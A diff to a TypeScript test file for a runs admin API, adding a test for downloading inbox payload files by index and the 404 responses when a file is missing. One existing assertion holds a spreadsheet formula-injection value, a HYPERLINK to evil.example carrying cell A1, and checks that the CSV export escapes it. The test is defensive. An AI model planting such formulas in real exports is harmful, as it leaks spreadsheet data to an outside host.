@@ -1,6 +1,6 @@
 // Runs admin API on a real store and Redis: payload upload streamed into the inbox, listing with
 // filters and cursor, one run, rejects page by page, and approve / reject / replay with their state rules.
-import { readFile } from 'node:fs/promises';
+import { readFile, rm } from 'node:fs/promises';
 import { Readable } from 'node:stream';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { apiFixture, type ApiFixture } from './api-fixture.ts';
@@ -124,6 +124,21 @@ describe('runs admin API', () => {
     expect(lines[4]).toBe(`big.txt;4;;sku;required;"'=HYPERLINK(""http://evil.example/?""&A1;""x"")";"{""sku"":""""}"`);
     expect(lines.slice(5)).toEqual(['']);
     expect((await fx.app.inject({ method: 'GET', url: '/admin/api/runs/999999/rejects.csv', headers: fx.auth })).statusCode).toBe(404);
+  });
+
+  it('sends a payload file as it was received, by its place among the run\'s files', async () => {
+    const res = await fx.app.inject({ method: 'GET', url: `/admin/api/runs/${second}/files/0`, headers: fx.auth });
+    expect(res.statusCode).toBe(200);
+    expect(res.body).toBe('sku=B;price=2\n');
+    expect(res.headers['content-disposition']).toBe(`attachment; filename="small.txt"; filename*=UTF-8''small.txt`);
+    const none = await fx.app.inject({ method: 'GET', url: `/admin/api/runs/${second}/files/1`, headers: fx.auth });
+    expect(none.statusCode).toBe(404);
+    expect(none.json().message).toBe(`run ${second} has 1 file(s): there is no file 1`);
+    const inbox = await fx.db.db.selectFrom('inbox').select('path').where('file_name', '=', 'small.txt').executeTakeFirstOrThrow();
+    await rm(inbox.path);
+    const gone = await fx.app.inject({ method: 'GET', url: `/admin/api/runs/${second}/files/0`, headers: fx.auth });
+    expect(gone.statusCode).toBe(404);
+    expect(gone.json().message).toBe(`run ${second}: the payload file small.txt is no longer on the disk`);
   });
 
   it('approves and rejects only held runs, replays only finished ones', async () => {
